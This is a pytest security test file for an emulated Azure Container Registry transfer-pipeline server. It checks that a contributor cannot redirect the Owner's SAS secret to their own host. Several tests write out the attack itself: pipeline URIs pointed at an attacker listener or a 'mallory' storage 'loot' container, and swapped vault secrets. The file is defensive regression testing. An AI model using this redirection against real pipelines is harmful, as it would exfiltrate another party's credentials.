"""Confused deputy: a TransferPipelineContributor must not make the server send the Owner's secrets
to a host of the contributor's choosing (issue 10, section 4).

Every test runs a real `airlock serve`; the attacker drives the real console script with a
TransferPipelineContributor token, and listens on 127.0.0.1 with a socket that records whatever
arrives (`airlock.testing.recorder`). An honest storage endpoint (also a recorder, listed in
AIRLOCK_STORAGE_HOSTS) shows that the secret *is* read and sent — to it alone — so that "nothing
reached the attacker" is not just the trigger not having run.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from airlock.testing.airlock_server import AirlockServer
from airlock.testing.console import Console
from airlock.testing.images import push_oci_image
from airlock.testing.polling import wait_until
from airlock.testing.recorder import Recorder
from airlock.testing.registry_server import RegistryServer

SUB = "00000000-0000-0000-0000-000000000000"
RG = "deputyrg"
REG = f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.ContainerRegistry/registries/"
KV = f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.KeyVault/vaults/"
SIG = "planted-owner-signature-4f0c"
SAS = f"sv=2024-01-01&sr=c&sp=racwdl&sig={SIG}"
SECRET_URI = "https://deputykv.vault.azure.net/secrets/ownersas"


@pytest.fixture
def attacker() -> Iterator[Recorder]:
    with Recorder() as listener:
        yield listener


@pytest.fixture
def honest() -> Iterator[Recorder]:
    with Recorder() as listener:
        yield listener


def start_server(home: Path, trusted: Recorder) -> AirlockServer:
    return AirlockServer(home, env={"AIRLOCK_STORAGE_HOSTS": trusted.host}).start()


def owner_setup(server: AirlockServer, login_server: str = "http://127.0.0.1:9") -> None:
    server.put(REG + "deputyreg", {"properties": {"loginServer": login_server}})
    server.put(KV + "deputykv", {})
    server.put(KV + "deputykv/secrets/ownersas", {"properties": {"value": SAS}})


def grant(server: AirlockServer, principal: str) -> None:
    body = {"properties": {"accessPolicies": [{"objectId": principal, "permissions": {"secrets": ["get"]}}]}}
    server.put(KV + "deputykv/accessPolicies/add", body)


def contributor(server: AirlockServer, home: Path, name: str = "mallory") -> Console:
    r = server.http.post("/airlock/tokens", json={"name": name, "role": "TransferPipelineContributor"})
    assert r.status_code == 201, r.text
    return Console(home=home, env={"AIRLOCK_ENDPOINT": server.url, "AIRLOCK_TOKEN": r.json()["token"]})


def report_of(server: AirlockServer, pipeline: str) -> dict[str, Any]:
    doc = server.get(REG + f"deputyreg/importPipelines/{pipeline}")
    report: dict[str, Any] = doc["properties"].get("sourceTriggerReport") or {}
    return report


def wait_report(server: AirlockServer, pipeline: str, needle: str, timeout: float = 30) -> str:
    def reported() -> str:
        text = str(report_of(server, pipeline))
        return text if needle in text else ""

    return wait_until(reported, timeout=timeout, what=f"the trigger to report {needle!r} on {pipeline}")


def test_contributor_cannot_redirect_the_owners_import_pipeline_sas_to_their_own_host(
    tmp_path: Path, attacker: Recorder, honest: Recorder
) -> None:
    """The attack as reported: re-PUT the Owner's import pipeline with source.uri on the attacker's
    host and the trigger enabled. Refused (403 naming the field); the SAS keeps going to the honest
    storage only; the attacker's socket receives nothing at all."""
    server = start_server(tmp_path / "home", honest)
    try:
        owner_setup(server)
        pipe = server.put(
            REG + "deputyreg/importPipelines/ownerimport",
            {
                "properties": {
                    "source": {"uri": honest.url("/acct/transfer"), "keyVaultUri": SECRET_URI},
                    "trigger": {"sourceTrigger": {"status": "Enabled"}},
                }
            },
        )
        grant(server, pipe["identity"]["principalId"])
        honest.wait_for(SIG.encode())  # the trigger lists the container with the Owner's SAS: it works
        mallory = contributor(server, tmp_path)
        create = ["acr", "import-pipeline", "create", "-g", RG, "-r", "deputyreg", "-n", "ownerimport"]

        # The attack: the attacker's host, the trigger enabled, the same secret.
        run = mallory(*create, "-s", SECRET_URI, "-c", attacker.url("/acct/transfer"), "-e", "True")
        message = run.only_error(1)
        assert "only an Owner may change properties.source.uri" in message, message
        # The attacker's own Azure storage account passes the host allowlist: the Owner rule stops it.
        message = mallory(*create, "-s", SECRET_URI, "-c", "https://mallory.blob.core.windows.net/loot").only_error(1)
        assert "properties.source.uri" in message, message
        # Same storage, another secret (one the identity may read, but that is not meant for storage).
        other = "https://deputykv.vault.azure.net/secrets/registrypassword"
        message = mallory(*create, "-s", other, "-c", honest.url("/acct/transfer")).only_error(1)
        assert "only an Owner may change properties.source.keyVaultUri" in message, message
        # What a contributor may change stays allowed: the trigger status, with storage and secret as they are.
        mallory.ok(*create, "-s", SECRET_URI, "-c", honest.url("/acct/transfer"), "-e", "False")
        mallory.ok(*create, "-s", SECRET_URI, "-c", honest.url("/acct/transfer"), "-e", "True")
        doc = server.get(REG + "deputyreg/importPipelines/ownerimport")
        assert doc["identity"]["principalId"] == pipe["identity"]["principalId"]
        assert doc["properties"]["source"]["uri"] == honest.url("/acct/transfer")

        # A new pipeline (or the Owner's, deleted and re-created) gets a new identity: no vault access.
        mallory.ok("acr", "import-pipeline", "delete", "-g", RG, "-r", "deputyreg", "-n", "ownerimport")
        mallory.ok(*create, "-s", SECRET_URI, "-c", honest.url("/acct/mallory"))
        fresh = server.get(REG + "deputyreg/importPipelines/ownerimport")["identity"]["principalId"]
        assert fresh != pipe["identity"]["principalId"]
        wait_report(server, "ownerimport", "lacks the 'get' permission")
        # And a new pipeline on the attacker's host is refused outright: it is not trusted storage.
        run = mallory(*create[:-1], "malloryimport", "-s", SECRET_URI, "-c", attacker.url("/acct/transfer"))
        assert "AIRLOCK_STORAGE_HOSTS" in run.only_error(2)

        # The Owner may move it back (and grant the new identity): the trigger still works afterwards.
        seen = len(honest.received)
        source = {"uri": honest.url("/acct/transfer"), "keyVaultUri": SECRET_URI}
        server.put(REG + "deputyreg/importPipelines/ownerimport", {"properties": {"source": source}})
        grant(server, fresh)
        honest.wait_for(SIG.encode(), after=seen)
    finally:
        server.stop()
    assert attacker.received == [], attacker.everything()[:300]
    logs = "\n".join(p.read_text(errors="replace") for p in tmp_path.glob("serve-*.log"))
    assert "Traceback" not in logs and SIG not in logs


def test_contributor_cannot_point_the_owners_export_pipeline_or_its_runs_elsewhere(
    tmp_path: Path, attacker: Recorder, honest: Recorder, source_registry: RegistryServer
) -> None:
    """Export pipelines: target.uri and keyVaultUri need an Owner; a contributor's run of the Owner's
    pipeline sends the SAS to the Owner's storage only, and its artifacts cannot name another registry."""
    image = push_oci_image(source_registry.url, "deputy/app", "1", seed=97)
    server = start_server(tmp_path / "home", honest)
    try:
        owner_setup(server, login_server=source_registry.url)
        pipe = server.put(
            REG + "deputyreg/exportPipelines/ownerexport",
            {"properties": {"target": {"uri": honest.url("/acct/transfer"), "keyVaultUri": SECRET_URI}}},
        )
        grant(server, pipe["identity"]["principalId"])
        mallory = contributor(server, tmp_path)
        create = ["acr", "export-pipeline", "create", "-g", RG, "-r", "deputyreg", "-n", "ownerexport"]
        message = mallory(*create, "-s", SECRET_URI, "-c", attacker.url("/acct/transfer")).only_error(1)
        assert "only an Owner may change properties.target.uri" in message, message
        other = "https://deputykv.vault.azure.net/secrets/other"
        message = mallory(*create, "-s", other, "-c", honest.url("/acct/transfer")).only_error(1)
        assert "only an Owner may change properties.target.keyVaultUri" in message, message

        # Registry credentials go to the registry's loginServer, which only an Owner records.
        message = mallory("acr", "create", "-g", RG, "-n", "deputyreg", "--login-server", attacker.url()).only_error(1)
        assert "TransferPipelineContributor" in message and "may not PUT" in message, message
        run = ["acr", "pipeline-run", "create", "-g", RG, "-r", "deputyreg", "-p", "ownerexport", "-t", "export"]
        foreign = f"{attacker.host}/deputy/app:1"
        message = mallory(*run, "-n", "malloryrun1", "-b", "x.tar", "-a", foreign).only_error((1, 2))
        assert attacker.host in message, message

        # The contributor may run the Owner's pipeline: the SAS goes to the Owner's storage, nowhere else.
        done = mallory(*run, "-n", "malloryrun2", "-b", "x.tar", "-a", image.reference.split("/", 1)[1])
        assert done.returncode != 0  # the honest recorder refuses the upload
        honest.wait_for(SIG.encode())
    finally:
        server.stop()
    assert attacker.received == [], attacker.everything()[:300]


def test_storage_outside_the_allowlist_gets_no_credential_even_from_an_owners_pipeline(
    tmp_path: Path, attacker: Recorder, honest: Recorder
) -> None:
    """The allowlist holds for Owners too: their PUT is refused, and a pipeline stored while its host
    was trusted sends nothing once the server no longer lists it (it is checked before every use)."""
    home = tmp_path / "home"
    # First the listener's host is trusted (by mistake, or by an earlier configuration); the trigger
    # does not poll yet, so nothing is sent while it is.
    server = AirlockServer(home, trigger_interval=3600, env={"AIRLOCK_STORAGE_HOSTS": attacker.host}).start()
    try:
        owner_setup(server)
        pipe = server.put(
            REG + "deputyreg/importPipelines/oldimport",
            {"properties": {"source": {"uri": attacker.url("/acct/transfer"), "keyVaultUri": SECRET_URI}}},
        )
        grant(server, pipe["identity"]["principalId"])
    finally:
        server.stop()
    server = start_server(home, honest)  # the operator no longer lists that host
    try:
        owner = Console(home=tmp_path, env={"AIRLOCK_ENDPOINT": server.url, "AIRLOCK_TOKEN": _owner_token(home)})
        wait_report(server, "oldimport", "is not trusted with this server's credentials")
        run = ["acr", "pipeline-run", "create", "-g", RG, "-r", "deputyreg", "-p", "oldimport", "-t", "import"]
        failed = owner(*run, "-n", "oldrun1", "-b", "x.tar")
        assert failed.returncode == 1 and "is not trusted" in failed.stdout + failed.stderr, failed.where()

        create = ["acr", "import-pipeline", "create", "-g", RG, "-r", "deputyreg", "-n", "newimport"]
        message = owner(*create, "-s", SECRET_URI, "-c", attacker.url("/acct/transfer")).only_error(2)
        assert f"storage {attacker.url()} is not trusted" in message and "AIRLOCK_STORAGE_HOSTS" in message
        message = owner(*create, "-s", SECRET_URI, "-c", "http://acct.blob.core.windows.net/transfer").only_error(2)
        assert "plain http" in message, message
    finally:
        server.stop()
    assert attacker.received == [], attacker.everything()[:300]


def _owner_token(home: Path) -> str:
    return (home / "api-token").read_text().strip()


def test_contributors_new_pipeline_may_not_name_a_secret_outside_the_embedded_vaults(
    tmp_path: Path, honest: Recorder
) -> None:
    """Review finding: Azure Key Vault and Vault/OpenBao are read with the server's own credential,
    so a contributor's new pipeline naming the Owner's secret there would have had it sent to any
    trusted storage (their own Azure account, say). Only embedded-vault secrets, which check the new
    identity's own policy, are open to them."""
    server = start_server(tmp_path / "home", honest)
    try:
        owner_setup(server)
        mallory = contributor(server, tmp_path)
        create = ["acr", "import-pipeline", "create", "-g", RG, "-r", "deputyreg", "-n", "mallorynew", "-e", "False"]
        for outside in ("https://ownerkv.vault.azure.net/secrets/ownersas", "https://bao.internal:8200/v1/kv/data/sas"):
            message = mallory(*create, "-s", outside, "-c", honest.url("/acct/transfer")).only_error(1)
            assert "only an Owner may name a secret outside" in message, message
        made = mallory(*create, "-s", SECRET_URI, "-c", honest.url("/acct/transfer"))  # the embedded vault
        assert made.returncode == 0, made.where()
    finally:
        server.stop()
    assert honest.received == []


def test_contributor_cannot_lend_a_pipeline_the_servers_own_azure_identity(tmp_path: Path, honest: Recorder) -> None:
    """Was an open risk: in the ManagedIdentity mode a system-assigned identity is the server's own
    Azure identity, so a contributor's new pipeline could reach any storage account it may use."""
    server = start_server(tmp_path / "home", honest)
    try:
        owner_setup(server)
        mallory = contributor(server, tmp_path)
        for kind, side in (("export-pipeline", "-c"), ("import-pipeline", "-c")):
            create = ["acr", kind, "create", "-g", RG, "-r", "deputyreg", "-n", "mallorymi", side]
            message = mallory(*create, honest.url("/acct/transfer"), "-m", "ManagedIdentity").only_error(1)
            assert "only an Owner may use the ManagedIdentity access mode" in message, message
        owner = Console(home=tmp_path, env={"AIRLOCK_ENDPOINT": server.url, "AIRLOCK_TOKEN": _owner_token(server.home)})
        made = owner(
            "acr",
            "export-pipeline",
            "create",
            "-g",
            RG,
            "-r",
            "deputyreg",
            "-n",
            "ownermi",
            "-c",
            honest.url("/acct/transfer"),
            "-m",
            "ManagedIdentity",
        )
        assert made.returncode == 0, made.where()
    finally:
        server.stop()
    assert honest.received == []
